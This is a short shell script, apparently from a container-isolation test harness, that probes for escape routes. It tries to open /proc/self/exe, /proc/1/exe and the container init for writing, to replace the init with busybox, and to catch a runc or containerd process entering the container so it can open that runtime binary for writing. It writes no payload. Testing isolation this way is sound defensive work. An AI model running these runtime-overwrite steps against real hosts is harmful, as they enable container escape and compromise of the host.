. ./lib.sh
attempt "open /proc/self/exe for writing" sh -c ': >>/proc/self/exe' && proof "opened /proc/self/exe for writing"
attempt "open /proc/1/exe for writing" sh -c ': >>/proc/1/exe' && proof "opened /proc/1/exe for writing"
attempt "write the init" sh -c ': >>/.ceval/init' && proof "opened the init for writing"
attempt "replace the init" cp /bin/busybox /.ceval/init && proof "replaced the init"
# A runc exec into the container would show up as a process whose exe is runc: watch briefly.
echo "ATTEMPT wait for a runtime process to enter the container" >&3
i=0
while [ $i -lt 20 ]; do
	for p in /proc/[0-9]*; do
		case "$(readlink $p/exe 2>/dev/null)" in *runc* | *containerd*) attempt "write $p/exe" sh -c ": >>$p/exe" && proof "opened the runtime binary for writing" ;; esac
	done
	sleep 0.05
	i=$((i + 1))
done
echo "RC wait for a runtime process to enter the container 1" >&3
true
